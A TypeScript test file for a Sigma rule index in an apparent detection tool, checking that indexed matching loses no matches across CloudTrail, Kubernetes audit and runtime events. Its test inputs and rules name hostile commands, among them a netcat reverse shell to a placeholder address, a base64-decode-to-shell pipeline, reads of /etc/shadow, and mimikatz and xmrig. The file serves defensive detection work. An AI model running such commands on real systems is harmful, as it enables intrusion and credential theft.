/**
 * The index and its shortcuts (literal buckets, presence buckets, runtime kind buckets) must never
 * hide a match: for many events, indexed matching equals evaluating every rule of the event's source.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { SeamEvent } from '../../core/envelope.ts';
import { loadRules, loadRulesFromText } from './ruleset.ts';
import type { SigmaRuleset } from './ruleset.ts';
import type { InternalRule } from './rule-index.ts';
import { SHARED, sharedPresent } from '../../../test/helpers/shared.ts';

const CORPUS = join(SHARED, 'sigma');
const PACK = new URL('../../../detections/', import.meta.url).pathname;
const FIX = new URL('../../../test/fixtures/', import.meta.url);
const ingest = { collector: 'test', received_at: '2026-01-01T00:00:00Z', truncated: false, redacted: [] };

type Rec = Record<string, unknown>;
const jsonl = (p: string): Rec[] =>
  readFileSync(new URL(p, FIX), 'utf8')
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l) as Rec);

function templates(): [SeamEvent['seam']['source'], Rec][] {
  const ct = (JSON.parse(readFileSync(new URL('cloudtrail/s3-export.json', FIX), 'utf8')) as { Records: Rec[] }).Records;
  return [
    ...ct.map((r) => ['cloudtrail', r] as const),
    ...jsonl('k8s-audit/eks-audit.jsonl').map((r) => ['k8s_audit', r] as const),
    ...jsonl('runtime/native.jsonl').map((r) => ['runtime', r] as const),
    ...jsonl('runtime/falco.jsonl').map((r) => ['runtime', r] as const),
  ] as [SeamEvent['seam']['source'], Rec][];
}

function setPath(rec: Rec, path: string, v: unknown): void {
  const parts = path.split('.');
  let o = rec;
  for (const p of parts.slice(0, -1)) {
    if (typeof o[p] !== 'object' || o[p] === null || Array.isArray(o[p])) o[p] = {};
    o = o[p] as Rec;
  }
  o[parts[parts.length - 1]!] = v;
}

/** Events from the fixtures with indexed fields set to literals the rules ask for (so many rules fire). */
function* events(ruleset: SigmaRuleset, n: number): Generator<SeamEvent> {
  const pool = new Map<string, [string, string][]>();
  // Basenames go in under assorted directories (or none), so `endswith: '/curl'` rules see
  // `/usr/bin/curl`, `curl` and `/tmp/x/curl`; `libcurl`-style near misses come from the prefixes too.
  const dirs = ['', '/usr/bin/', '/bin/', '/tmp/x/', 'lib', '/opt/lib', './'];
  for (const r of ruleset.rules as InternalRule[]) {
    const src = r.source ?? '';
    let l = pool.get(src);
    if (!l) pool.set(src, (l = []));
    for (const [f, vals] of r.req) for (const v of vals) l.push([f, v]);
    for (const [f, vals] of r.base) for (const v of vals) for (const d of dirs) l.push([f, d + v]);
    // Required substrings go in whole, cut short (one character less) and inside other text.
    for (const [f, vals] of r.sub) for (const v of vals) l.push([f, v], [f, v.slice(1)], [f, `x ${v} -y`]);
    for (const k of r.any ?? []) {
      for (const v of k.values) {
        if (k.kind === 'req') l.push([k.field, v]);
        else if (k.kind === 'base') for (const d of dirs) l.push([k.field, d + v]);
        else l.push([k.field, v], [k.field, `x ${v} -y`]);
      }
    }
  }
  const ts = templates();
  let seed = 7;
  const rnd = (k: number): number => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return (seed >>> 8) % k;
  };
  const kinds = ['process', 'network', 'file', 'dns'];
  for (let i = 0; i < n; i++) {
    const [source, t] = ts[rnd(ts.length)]!;
    const ev = structuredClone(t);
    const lits = pool.get(source) ?? [];
    const set = new Map<string, string>();
    for (let k = rnd(4); k > 0 && lits.length > 0; k--) {
      const [f, v] = lits[rnd(lits.length)]!;
      // Original case varies: matching is case-insensitive unless a rule says |cased. A field picked
      // twice holds both values, so rules that need two substrings of one field can match.
      const x = (set.has(f) ? set.get(f)! + ' ' : '') + (rnd(2) === 0 ? v : v.toUpperCase());
      set.set(f, x);
      setPath(ev, f, x);
    }
    if (source === 'runtime' && ev.schema !== undefined && rnd(3) === 0) ev.kind = kinds[rnd(kinds.length)];
    yield { ...ev, '@timestamp': '2026-01-01T00:00:00Z', seam: { id: String(i), source, ingest } } as SeamEvent;
  }
}

function check(ruleset: SigmaRuleset, n: number): number {
  let hits = 0;
  for (const ev of events(ruleset, n)) {
    const indexed = ruleset.match(ev).map((m) => m.rule.id);
    const brute = (ruleset.rules as InternalRule[]).filter((r) => r.source === ev.seam.source && r.test(ev)).map((r) => r.id);
    expect(indexed, JSON.stringify(ev)).toEqual(brute);
    hits += brute.length;
  }
  return hits;
}

describe('rule index', () => {
  it("matches exactly what evaluating every rule of the source matches (Seam's pack)", async () => {
    const { ruleset } = await loadRules([PACK]);
    expect(check(ruleset, 3000)).toBeGreaterThan(100);
  }, 120_000);

  it.skipIf(!sharedPresent(CORPUS))('matches exactly what evaluating every rule of the source matches (SigmaHQ)', async () => {
    const { ruleset } = await loadRules([CORPUS]);
    expect(check(ruleset, 1500)).toBeGreaterThan(100);
  }, 120_000);
});

describe('basename index', () => {
  const rule = (id: string, sel: string): string =>
    `title: ${id}\nid: ${id}\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n${sel}\n  condition: sel\n`;
  const text = [
    rule('slash', "    Image|endswith: '/curl'"),
    rule('deep', "    Image|endswith: '/usr/bin/wget'"),
    rule('bare', "    Image|endswith: 'curl'"),
    rule('mixed', "    - Image|endswith: '/nc'\n    - Image: '/usr/bin/ncat'"),
    rule('cased', "    Image|endswith|cased: '/Curl'"),
  ].join('---\n');
  const ev = (exe: string): SeamEvent =>
    ({ kind: 'process', process: { pid: 1, exe }, seam: { id: exe, source: 'runtime', ingest } }) as unknown as SeamEvent;

  it('narrows by the basename without losing a match', () => {
    const { ruleset, diagnostics } = loadRulesFromText(text, 'basename.yml');
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    const ids = (exe: string): string[] => ruleset.match(ev(exe)).map((m) => m.rule.id);
    expect(ids('/usr/bin/curl')).toEqual(['slash', 'bare']);
    expect(ids('/USR/BIN/CURL')).toEqual(['slash', 'bare']);
    expect(ids('/usr/lib/libcurl')).toEqual(['bare']);
    expect(ids('curl')).toEqual(['bare']);
    expect(ids('/opt/usr/bin/wget')).toEqual(['deep']);
    expect(ids('/bin/wget')).toEqual([]);
    expect(ids('/bin/nc')).toEqual(['mixed']);
    expect(ids('/usr/bin/ncat')).toEqual(['mixed']);
    expect(ids('/bin/ncat')).toEqual([]);
    expect(ids('/x/Curl')).toEqual(['slash', 'bare', 'cased']);
    // 'cased' has no case-insensitive basename to be filed under, and one substring is not worth a
    // trigram scan: it is evaluated whenever the field is present.
    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byBase: 4, byGram: 0, byPresence: 1 });
  });
});

describe('trigram index', () => {
  const rule = (id: string, sel: string, cond = 'sel'): string =>
    `title: ${id}\nid: ${id}\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n${sel}\n  condition: ${cond}\n`;
  const text = [
    rule('plain', "    CommandLine|contains: 'base64 -d'"),
    rule('multi', "    CommandLine|contains:\n      - 'wget '\n      - 'curl -s'"),
    rule('all', "    CommandLine|contains|all:\n      - 'nc '\n      - ' -e '"),
    rule('wild', "    CommandLine|contains: 'chmod*+x'"),
    rule('wildone', "    CommandLine: '*sudo?-l*'"),
    rule('cased', "    CommandLine|contains|cased: 'SECRET'"),
    rule('starts', "    CommandLine|startswith: 'python -c'"),
    rule('regex', "    CommandLine|re: '(?i)mimi[k]atz'"),
    rule('short', "    CommandLine|contains: 'ab'"),
    rule('mixed', "    CommandLine|contains:\n      - 'ab'\n      - 'xmrig'"),
    rule('windash', "    CommandLine|windash|contains: '-enc'"),
    rule('unicode', "    CommandLine|contains: 'ärger'"),
    rule('kelvin', "    CommandLine|contains: 'kubectl'"),
    rule('either', "    - CommandLine|contains: 'nmap'\n    - CommandLine|contains: 'masscan'"),
    rule('notnull', "    CommandLine|contains: 'tar '\n  none:\n    CommandLine: null", 'sel or none'),
    `title: kw\nid: kw\nlogsource: {product: linux, category: process_creation}\ndetection:\n  kw:\n    - 'xmrig'\n  condition: kw\n`,
  ].join('---\n');
  const ev = (cmdline: unknown): SeamEvent =>
    ({ kind: 'process', process: { pid: 1, exe: '/bin/sh', cmdline }, seam: { id: 'x', source: 'runtime', ingest } }) as unknown as SeamEvent;
  const { ruleset, diagnostics } = loadRulesFromText(text, 'grams.yml');
  const ids = (cmdline: unknown): string[] => {
    const got = ruleset.match(ev(cmdline)).map((m) => m.rule.id);
    // Whatever the index does, it must agree with evaluating every rule.
    const all = (ruleset.rules as InternalRule[]).filter((r) => r.test(ev(cmdline))).map((r) => r.id);
    expect(got).toEqual(all);
    return got;
  };

  it('files substring-only rules under trigrams, and leaves the rest evaluated', () => {
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    // short, mixed ('ab' has no 3 characters), windash: no substring every match must contain; notnull
    // also matches no value at all; kw has no field.
    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byGram: 11, byPresence: 3, always: 2 });
  });

  it('never skips a rule that matches: case, wildcards, |all, lists, cased, regex, keywords', () => {
    expect(ids('echo aGk= | BASE64 -D | sh')).toEqual(['plain']);
    expect(ids('WGET http://x')).toEqual(['multi']);
    expect(ids('Curl -S -o /tmp/x http://y')).toEqual(['multi']);
    expect(ids('nc 10.0.0.1 4444 -e /bin/sh')).toEqual(['all']);
    expect(ids('nc 10.0.0.1 4444')).toEqual([]);
    expect(ids('CHMOD 755 +X /tmp/a')).toEqual(['wild']);
    expect(ids('sudo -l')).toEqual(['wildone']);
    expect(ids('SUDO\t-L now')).toEqual(['wildone']);
    expect(ids('cat SECRET.txt')).toEqual(['cased']);
    expect(ids('cat secret.txt')).toEqual([]);
    expect(ids('Python -C "import os"')).toEqual(['starts']);
    expect(ids('x python -c y')).toEqual([]);
    expect(ids('./MimiKatz.exe')).toEqual(['regex']);
    expect(ids('tab')).toEqual(['short', 'mixed']);
    expect(ids('./XMRig --donate 0')).toEqual(['mixed', 'kw']);
    expect(ids('powershell /enc AAA')).toEqual(['windash']);
    expect(ids('ÄRGER über alles')).toEqual(['unicode']);
    // KELVIN SIGN lowercases to an ASCII 'k'.
    expect(ids('\u212AUBECTL get secrets')).toEqual(['kelvin']);
    expect(ids('masscan -p1-65535')).toEqual(['either']);
    expect(ids('tar czf x.tgz /etc')).toEqual(['notnull']);
    expect(ids(null)).toEqual(['notnull']);
    expect(ids(['ls', 'base64 -d'])).toEqual(['plain']);
    expect(ids(12345)).toEqual([]);
  });
});

describe('index fields', () => {
  const rule = (id: string, sel: string): string =>
    `title: ${id}\nid: ${id}\nlogsource: {product: kubernetes, service: audit}\ndetection:\n  sel:\n${sel}\n  condition: sel\n`;
  const text = [
    rule('exec', "    verb: create\n    objectRef.resource: pods\n    objectRef.subresource: exec"),
    rule('pods', "    verb: create\n    objectRef.resource: pods"),
    rule('ns', "    verb: create\n    objectRef.resource: pods\n    objectRef.namespace: kube-system"),
    rule('secrets', "    verb: list\n    objectRef.resource: secrets"),
    rule('forbid', "    responseStatus.code: 403"),
  ].join('---\n');
  const ev = (verb: string, resource: string, extra: Record<string, unknown> = {}): SeamEvent =>
    ({ verb, objectRef: { resource, ...extra }, seam: { id: 'x', source: 'k8s_audit', ingest } }) as unknown as SeamEvent;

  it('reads one field for rules that can share it, without losing a match', () => {
    const { ruleset } = loadRulesFromText(text, 'fields.yml');
    // exec and ns would each be alone behind their own field; they move to objectRef.resource.
    expect(ruleset.indexStats().buckets['k8s_audit']!.fields).toEqual(['objectRef.resource']);
    const ids = (e: SeamEvent): string[] => ruleset.match(e).map((m) => m.rule.id);
    expect(ids(ev('create', 'pods', { subresource: 'exec' }))).toEqual(['exec', 'pods']);
    expect(ids(ev('CREATE', 'Pods', { namespace: 'kube-system' }))).toEqual(['pods', 'ns']);
    expect(ids(ev('list', 'secrets'))).toEqual(['secrets']);
    expect(ids(ev('get', 'pods', { subresource: 'exec' }))).toEqual([]);
  });

  it('files a rule under the field that splits events finely, not under one every event carries', () => {
    // `stage: ResponseComplete` is asked by three rules only, `objectRef.resource: pods` by four, but
    // stage has one value across the rules and resource has six: an audit event almost always carries
    // the stage, rarely a given resource. Counting rules alone would file the first three under stage.
    const wl = ['pods', 'deployments', 'daemonsets', 'jobs', 'cronjobs', 'statefulsets'];
    const staged = (id: string): string => rule(id, `    stage: ResponseComplete\n    verb: create\n    objectRef.resource: [${wl.join(', ')}]`);
    const others = ['secrets', 'configmaps', 'pods', 'nodes', 'roles', 'leases'].map((r, i) => rule(`o${i}`, `    verb: get\n    objectRef.resource: ${r}`));
    const { ruleset } = loadRulesFromText([staged('s1'), staged('s2'), staged('s3'), ...others].join('---\n'), 'stage.yml');
    const idx = (ruleset as unknown as { index: { collect(s: string, c: unknown, g: number, o: InternalRule[]): void } }).index;
    const ctx = (ruleset as unknown as { ctx: { reset(e: SeamEvent): unknown } }).ctx;
    const offered = (e: SeamEvent): string[] => {
      const out: InternalRule[] = [];
      idx.collect('k8s_audit', ctx.reset(e), 1e9 + Math.random(), out);
      return out.map((r) => r.id).sort();
    };
    const lease = { ...ev('get', 'leases'), stage: 'ResponseComplete' } as SeamEvent;
    expect(offered(lease)).toEqual(['o5']);
    expect(ruleset.indexStats().buckets['k8s_audit']!.fields).not.toContain('stage');
    const pod = { ...ev('create', 'pods'), stage: 'ResponseComplete' } as SeamEvent;
    expect(ruleset.match(pod).map((m) => m.rule.id)).toEqual(['s1', 's2', 's3']);
  });

  it("keeps rules that ask an error code behind it: a successful call is not offered the pack's refused-call rules", async () => {
    // errorCode has few values across the rules but is absent on most CloudTrail records: unlike `stage`, it is
    // selective. (A heuristic that discounted fields by their number of values filed these under eventSource.)
    const { ruleset } = await loadRules([join(PACK, 'cloudtrail')]);
    const idx = (ruleset as unknown as { index: { collect(s: string, c: unknown, g: number, o: InternalRule[]): void } }).index;
    const ctx = (ruleset as unknown as { ctx: { reset(e: SeamEvent): unknown } }).ctx;
    const call = (eventSource: string, eventName: string, extra: Record<string, unknown> = {}): SeamEvent =>
      ({
        eventSource,
        eventName,
        awsRegion: 'eu-west-1',
        sourceIPAddress: '10.0.3.7',
        userAgent: 'aws-sdk-go-v2/1.30',
        userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::123456789012:assumed-role/node-provisioner/i-1' },
        ...extra,
        seam: { id: eventName, source: 'cloudtrail', ingest },
      }) as unknown as SeamEvent;
    const calls = [call('ec2.amazonaws.com', 'DescribeInstances'), call('ec2.amazonaws.com', 'CreateFleet'), call('iam.amazonaws.com', 'ListRoles'), call('iam.amazonaws.com', 'TagRole')];
    const refusedRules = (ruleset.rules as InternalRule[]).filter((r) => r.req.has('errorCode')).map((r) => r.id);
    expect(refusedRules.length).toBeGreaterThan(3);
    for (const e of calls) {
      const out: InternalRule[] = [];
      idx.collect('cloudtrail', ctx.reset(e), 1e9 + Math.random(), out);
      expect(out.map((r) => r.id).filter((id) => refusedRules.includes(id)), String(e.eventName)).toEqual([]);
    }
  }, 60_000);
});

describe('literal keys', () => {
  const rule = (id: string, sel: string): string =>
    `title: ${id}\nid: ${id}\nlogsource: {product: kubernetes, service: audit}\ndetection:\n  sel:\n${sel}\n  condition: sel\n`;
  const text = [
    rule('empty', "    verb: get\n    objectRef.name: ''"),
    rule('umlaut', '    objectRef.name: Größe'),
    rule('one', '    objectRef.name: x'),
    rule('base', "    objectRef.name|endswith: '/ab'"),
    rule('basecased', "    objectRef.name|endswith|cased: '/AB'"),
    rule('kelvin', '    objectRef.name: kube'),
    rule('dotless', '    objectRef.name: "xai\\u0307b"'),
    rule('basekelvin', "    objectRef.name|endswith: '/kubectl'"),
  ].join('---\n');
  const ev = (name: string): SeamEvent =>
    ({ verb: 'get', objectRef: { resource: 'pods', name }, seam: { id: 'x', source: 'k8s_audit', ingest } }) as unknown as SeamEvent;

  it('finds keys of any length and alphabet (the per-key filter never hides one)', () => {
    const { ruleset } = loadRulesFromText(text, 'keys.yml');
    const ids = (name: string): string[] => ruleset.match(ev(name)).map((m) => m.rule.id);
    expect(ids('')).toEqual(['empty']);
    expect(ids('GRÖSSE')).toEqual([]);
    expect(ids('GRÖßE')).toEqual(['umlaut']);
    expect(ids('X')).toEqual(['one']);
    expect(ids('xx')).toEqual([]);
    expect(ids('/a/AB')).toEqual(['base', 'basecased']);
    expect(ids('ab')).toEqual([]);
    expect(ids('/ab')).toEqual(['base']);
    // Values whose lowercase form has other end characters or another length than the value itself.
    expect(ids('\u212AUBE')).toEqual(['kelvin']);
    expect(ids('KUB\u212A')).toEqual([]);
    expect(ids('XA\u0130B')).toEqual(['dotless']);
    expect(ids('/usr/bin/\u212Aubectl')).toEqual(['basekelvin']);
    expect(ids('/\u0130/kubectL')).toEqual(['basekelvin']);
  });
});

describe('keys in several fields', () => {
  const text = `title: or
id: or
logsource: {product: linux, category: process_creation}
detection:
  selection_1:
    Image|endswith: '/lastlog'
  selection_2:
    CommandLine|contains: "'x:0:'"
  selection_3:
    Image|endswith: ['/cat', '/less']
    CommandLine|contains: ['/etc/passwd', '/etc/shadow']
  condition: 1 of selection*
---
title: open
id: open
logsource: {product: linux, category: process_creation}
detection:
  selection_1:
    Image|endswith: '/id'
  selection_2:
    CommandLine|contains: 'ab'
  condition: 1 of selection*
---
title: two
id: two
logsource: {product: linux, category: process_creation}
detection:
  a:
    Image|endswith: '/nc'
  b:
    CommandLine|contains: ' -e '
  c:
    ParentImage|endswith: '/sshd'
  condition: 2 of them
`;
  const ev = (exe: string, cmdline: string, parent = '/usr/sbin/cron'): SeamEvent =>
    ({ kind: 'process', process: { pid: 1, exe, cmdline, parent_exe: parent }, seam: { id: 'x', source: 'runtime', ingest } }) as unknown as SeamEvent;

  it('files a rule under a key from every branch of an OR, and evaluates it when a branch has none', () => {
    const { ruleset, diagnostics } = loadRulesFromText(text, 'or.yml');
    expect(diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    // 'or' and 'two' are filed under basenames and trigrams; 'open' ('ab' is too short) is always evaluated.
    expect(ruleset.indexStats().buckets['runtime:process']).toMatchObject({ byBase: 2, always: 1 });
    const ids = (e: SeamEvent): string[] => {
      const got = ruleset.match(e).map((m) => m.rule.id);
      expect(got).toEqual((ruleset.rules as InternalRule[]).filter((r) => r.test(e)).map((r) => r.id));
      return got;
    };
    expect(ids(ev('/usr/bin/LASTLOG', 'lastlog'))).toEqual(['or']);
    expect(ids(ev('/bin/grep', "grep 'X:0:' /etc/passwd"))).toEqual(['or']);
    expect(ids(ev('/bin/cat', 'cat /ETC/SHADOW'))).toEqual(['or']);
    expect(ids(ev('/bin/cat', 'cat /etc/hosts'))).toEqual([]);
    expect(ids(ev('/usr/bin/id', 'id'))).toEqual(['open']);
    expect(ids(ev('/bin/tab', 'tab'))).toEqual(['open']);
    expect(ids(ev('/bin/nc', 'nc -e /bin/sh x'))).toEqual(['two']);
    expect(ids(ev('/bin/ncat', 'ncat -e /bin/sh x', '/usr/sbin/sshd'))).toEqual(['two']);
    expect(ids(ev('/bin/nc', 'nc x', '/usr/sbin/sshd'))).toEqual(['two']);
    expect(ids(ev('/bin/nc', 'nc x'))).toEqual([]);
  });
});
